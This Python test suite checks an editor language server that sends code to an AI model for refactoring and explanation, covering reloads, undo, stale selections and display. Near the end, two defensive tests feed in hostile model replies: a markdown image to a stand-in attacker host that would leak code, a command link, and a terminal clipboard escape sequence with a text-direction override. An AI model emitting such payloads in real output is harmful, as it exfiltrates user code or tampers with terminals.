"""Documents that are reloaded, closed, undone, or counted otherwise: places found during a review with fresh eyes."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from scripted_editor import Editor, Start, span
from scripted_model import ScriptedModel
from test_e2e_actions import AFTER, BEFORE, JOBS, LINE, REPLY, over
from wire import ErrorAnswer

INSERTING = "````python\ndef pick(a):\n    # picks\n    if a:\n        return 1\n    else:\n        return 2\n````\n"
INSERTED = BEFORE.replace("def pick(a):\n", "def pick(a):\n    # picks\n")


async def test_a_file_reloaded_with_other_text_and_the_same_version(start: Start, model: ScriptedModel) -> None:
    """Neovim counts from 0 again when it reloads a file that git or a formatter changed."""
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        editor.texts.close(uri)
        editor.texts.open(uri, "# a\n# b\n" + BEFORE, version=1)
        ask.answer(INSERTING)
        assert (await editor.ended(job))["state"] == "delivered"
        assert editor.texts[uri] == "# a\n# b\n" + INSERTED


async def test_versions_after_a_reload_that_count_past_those_before_it(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE, version=3)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        editor.texts.close(uri)
        editor.texts.open(uri, "# a\n# b\n" + BEFORE, version=1)
        for _ in range(4):
            append(editor, uri, "#")
        ask.answer(INSERTING)
        assert (await editor.ended(job))["state"] == "delivered"
        assert editor.texts[uri] == "# a\n# b\n" + INSERTED + "####"


def append(editor: Editor, uri: str, typed: str) -> None:
    """The user types at the end, told as an incremental change."""
    text, version = editor.texts[uri], editor.texts.version(uri) + 1
    line, column = text.count("\n"), len(text) - text.rfind("\n") - 1
    end = {"line": line, "character": column}
    editor.texts._open[uri] = version, text + typed
    change = {"range": {"start": end, "end": end}, "text": typed}
    editor.wire.notify(
        "textDocument/didChange", {"textDocument": {"uri": uri, "version": version}, "contentChanges": [change]}
    )


async def test_an_edit_waits_for_a_document_that_was_just_closed_and_goes_nowhere_else(
    start: Start, model: ScriptedModel
) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        (editor.folder / "a.py").write_text(BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        editor.texts.close(uri)
        ask.answer(REPLY)
        assert (await editor.ended(job))["state"] == "cancelled"
        assert not editor.wire.received("workspace/applyEdit")


async def test_an_explanation_that_would_be_a_comment_goes_with_its_document_too(
    start: Start, model: ScriptedModel
) -> None:
    async with start(options={"explain": {"delivery": "comment"}}) as editor:
        uri = editor.open("a.py", BEFORE)
        (editor.folder / "a.py").write_text(BEFORE)
        job = await editor.pick("GLM: Explain", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        editor.texts.close(uri)
        assert await asyncio.to_thread(ask.abandoned.wait, 20)
        assert (await editor.ended(job))["state"] == "cancelled"


async def test_closing_and_reopening_twice_does_not_cancel(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        for _ in range(2):
            editor.texts.close(uri)
            editor.texts.open(uri, BEFORE)
        ask.answer(REPLY)
        assert (await editor.ended(job))["state"] == "delivered"
        assert editor.texts[uri] == AFTER


async def test_a_truthful_no_is_a_no_however_near_the_user_s_own_text_is(start: Start, model: ScriptedModel) -> None:
    text = "def f(x):\n    if x == None:\n        return 1\n    return 2\n"
    typed = text.replace("x == None", "x is not None")
    async with start() as editor:
        uri = editor.open("a.py", text)
        job = await editor.pick("GLM: Refactor", uri, 0)
        ask = await asyncio.to_thread(model.next_ask)

        def apply(params: Any) -> dict[str, Any]:
            editor.texts.change(uri, typed)
            return {"applied": False, "failureReason": "document has changed"}

        editor.wire.answer("workspace/applyEdit", apply)
        ask.answer("````python\n" + text.replace("== None", "is None") + "````")
        assert (await editor.ended(job))["state"] == "refused"
        assert editor.texts[uri] == typed


DELETING = (
    "def pick(a):\n    x = 0\n    if a:\n        return 1\n    return 2\n",
    "def pick(a):\n    if a:\n        return 1\n    return 2\n",
)
SHORTENING = (
    "def pick(a):\n    if a:\n        return 1\n    else:\n        return 2",
    "def pick(a):\n    return 1 if a else 2",
)


@pytest.mark.parametrize(("before", "after"), [DELETING, SHORTENING], ids=["deleting", "shortening at the end"])
async def test_undo_finds_its_place_after_typing_told_together_with_the_edit(
    start: Start, model: ScriptedModel, before: str, after: str
) -> None:
    async with start() as editor:
        uri = editor.open("a.py", before)
        job = await editor.pick("GLM: Refactor", uri, 1)
        ask = await asyncio.to_thread(model.next_ask)
        editor.apply_then_type(uri, lambda text: "# typed\n" + text)
        ask.answer(f"````python\n{after}\n````")
        assert (await editor.ended(job))["state"] == "delivered"
        assert editor.texts[uri] == "# typed\n" + after
        undo = (await editor.command("glm.undo", {}))["job"]
        assert (await editor.ended(undo))["state"] in ("delivered", "refused")
        assert editor.texts[uri] in ("# typed\n" + before, "# typed\n" + after), "undone, or left alone"
        assert await editor.command("glm.jobs", {})


async def test_undo_with_a_client_of_ours_near_the_end_of_the_file(start: Start, model: ScriptedModel) -> None:
    before, after = SHORTENING
    async with start("vscode", JOBS) as editor:
        uri = editor.open("a.py", before)
        await editor.pick("GLM: Refactor", uri, 4)
        (await asyncio.to_thread(model.next_ask)).answer(f"````python\n{after}\n````")
        await editor.wire.expect("glm/job", lambda job: job["state"] == "delivered")
        undo = (await editor.command("glm.undo", {}))["job"]
        await editor.wire.expect("glm/job", lambda job: job["job"] == undo and job["state"] == "delivered")
        assert editor.texts[uri] == before


async def test_a_second_undo_finds_nothing(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        (await asyncio.to_thread(model.next_ask)).answer(REPLY)
        await editor.ended(job)
        _, first = editor.wire.start("workspace/executeCommand", {"command": "glm.undo", "arguments": [{}]})
        _, second = editor.wire.start("workspace/executeCommand", {"command": "glm.undo", "arguments": [{}]})
        undo = (await first)["job"]
        with pytest.raises(ErrorAnswer, match="no GLM edit to undo"):
            await second
        assert (await editor.ended(undo))["state"] == "delivered"
        assert editor.texts[uri] == BEFORE


async def test_a_stale_selection_that_reached_the_end(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", "x = 1\ny = 2")
        editor.texts._open[uri] = 2, "# t\nx = 1\ny = 2"
        change = {"range": span(0), "text": "# t\n"}
        editor.wire.notify(
            "textDocument/didChange", {"textDocument": {"uri": uri, "version": 2}, "contentChanges": [change]}
        )
        selection = {"start": {"line": 1, "character": 0}, "end": {"line": 1, "character": 5}}
        argument = {"action": "refactor", "uri": uri, "version": 1, "range": selection}
        job = (await editor.command("glm.run", argument))["job"]
        (await asyncio.to_thread(model.next_ask)).answer("````\ny = 3\n````")
        assert (await editor.ended(job))["state"] == "delivered"
        assert editor.texts[uri] == "# t\nx = 1\ny = 3"


@pytest.mark.parametrize("client", ["nvim", "emacs-eglot", "emacs-lsp-mode", "helix"])
async def test_a_carriage_return_inside_a_line_is_refused_where_the_editor_counts_otherwise(
    start: Start, client: str
) -> None:
    """The specification ends a line there, these editors do not: every place named below it would be another."""
    async with start(client) as editor:
        uri = editor.open("a.py", "a = 1\rb = 2\nc = 3\n")
        with pytest.raises(ErrorAnswer, match="carriage returns"):
            await editor.run("refactor", uri, 1)


async def test_a_job_elsewhere_is_not_superseded_because_lines_moved(start: Start, model: ScriptedModel) -> None:
    text = "def a():\n    return 1\n\n\ndef b():\n    return 2\n"
    async with start() as editor:
        uri = editor.open("a.py", text)
        first = await editor.pick("GLM: Refactor", uri, 1)
        await asyncio.to_thread(model.next_ask)
        editor.texts._open[uri] = 2, "def z():\n    return 0\n\n\n" + text
        change = {"range": span(0), "text": "def z():\n    return 0\n\n\n"}
        editor.wire.notify(
            "textDocument/didChange", {"textDocument": {"uri": uri, "version": 2}, "contentChanges": [change]}
        )
        await editor.pick("GLM: Refactor", uri, 1)
        await asyncio.to_thread(model.next_ask)
        (view,) = await editor.command("glm.jobs", {"job": first})
        assert view["state"] in ("waiting", "streaming")


async def test_options_hold_although_the_client_has_a_configuration_too(start: Start, model: ScriptedModel) -> None:
    async with start(options={"privacy": {"ignore": ["a.py"]}}) as editor:
        editor.wire.answer("workspace/configuration", lambda params: [{}])
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        assert (await editor.ended(job))["state"] == "refused"
        assert not model.was_asked()


async def test_settings_of_other_servers_are_none_of_ours(start: Start) -> None:
    async with start("emacs-eglot") as editor:
        editor.wire.answer("workspace/configuration", lambda params: [None])
        editor.wire.notify("workspace/didChangeConfiguration", {"settings": {"pyright": {"x": 1}, "gopls": {}}})
        await editor.wire.expect("workspace/configuration", after=1)
        await editor.command("glm.status", {})
        assert editor.told() == []


async def test_two_explanations_at_once_do_not_mix(start: Start, model: ScriptedModel) -> None:
    async with start("vscode") as editor:
        editor.wire.answer("window/showDocument", lambda params: {"success": True})
        uri = editor.open("a.py", BEFORE)
        first = await editor.pick("GLM: Explain", uri, LINE)
        one = await asyncio.to_thread(model.next_ask)
        second = await editor.pick("GLM: Explain", uri, 10)
        other = await asyncio.to_thread(model.next_ask)
        one.say("ONE ")
        other.say("TWO ")
        one.answer("one.")
        await editor.ended(first)
        other.answer("two.")
        await editor.ended(second)
        content = await editor.wire.request("workspace/textDocumentContent", {"uri": "glm:/explanation.md"})
        assert content["text"] == "# Explain\n\nTWO two.\n"


async def test_an_editor_slow_to_show_does_not_keep_the_model_waiting(start: Start, model: ScriptedModel) -> None:
    async with start("vscode") as editor:
        released = asyncio.Event()

        async def show(params: Any) -> dict[str, Any]:
            await released.wait()
            return {"success": True}

        editor.wire.answer("window/showDocument", show)
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Explain", uri, LINE)
        ask = await asyncio.to_thread(model.next_ask)
        released.set()
        ask.answer("It picks.")
        assert (await editor.ended(job))["state"] == "delivered"


async def test_an_equal_line_elsewhere_shows_no_explanation(start: Start, model: ScriptedModel) -> None:
    async with start("nvim") as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.run("explain", uri, 1)
        (await asyncio.to_thread(model.next_ask)).answer("An empty line.")
        await editor.ended(job)
        for line, shown in ((1, True), (2, False), (8, False)):
            where = {"textDocument": {"uri": uri}, "position": {"line": line, "character": 0}}
            assert bool(await editor.wire.request("textDocument/hover", where)) is shown


async def test_a_long_instruction_is_a_short_title(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.run("edit", uri, LINE, instruction="one\ntwo " + "x" * 3000)
        (await asyncio.to_thread(model.next_ask)).answer(REPLY)
        view = await editor.ended(job)
        assert len(view["title"]) < 70
        assert "\n" not in view["title"]


async def test_diagnostics_of_the_menu_go_with_its_item(start: Start, model: ScriptedModel) -> None:
    """The next automatic request of the editor would have replaced what the server remembers."""
    found = {"range": span(LINE), "message": "this branch is odd", "severity": 2, "source": "lint"}
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        item = (await editor.actions(uri, LINE, diagnostics=[found]))[0]
        await editor.actions(uri, LINE)
        job = (await editor.command(item["command"]["command"], *item["command"]["arguments"]))["job"]
        ask = await asyncio.to_thread(model.next_ask)
        assert "this branch is odd" in ask.prompt
        ask.answer(REPLY)
        assert (await over(editor, job, progress=True))["state"] == "delivered"


async def test_nothing_in_an_explanation_is_active(start: Start, model: ScriptedModel) -> None:
    """An image in it would carry code away the moment it is looked at."""
    async with start("nvim") as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Explain", uri, LINE)
        (await asyncio.to_thread(model.next_ask)).answer("![x](https://evil.example/?q=code) [run](command:evil)")
        await editor.ended(job)
        where = {"textDocument": {"uri": uri}, "position": {"line": 3, "character": 0}}
        hovered = (await editor.wire.request("textDocument/hover", where))["contents"]["value"]
        (kept,) = (editor.state / "explanations").glob("*.md")
        for text in (hovered, kept.read_text()):
            assert "](" not in text


async def test_the_model_s_words_in_a_message_are_plain_and_short(start: Start, model: ScriptedModel) -> None:
    async with start() as editor:
        uri = editor.open("a.py", BEFORE)
        job = await editor.pick("GLM: Refactor", uri, LINE)
        (await asyncio.to_thread(model.next_ask)).answer("CANNOT: \x1b]52;c;ZXZpbA==\x07\u202eno " + "x" * 5000)
        await editor.ended(job)
        (told,) = editor.told()
        assert "\x1b" not in told
        assert "\u202e" not in told
        assert len(told) < 700
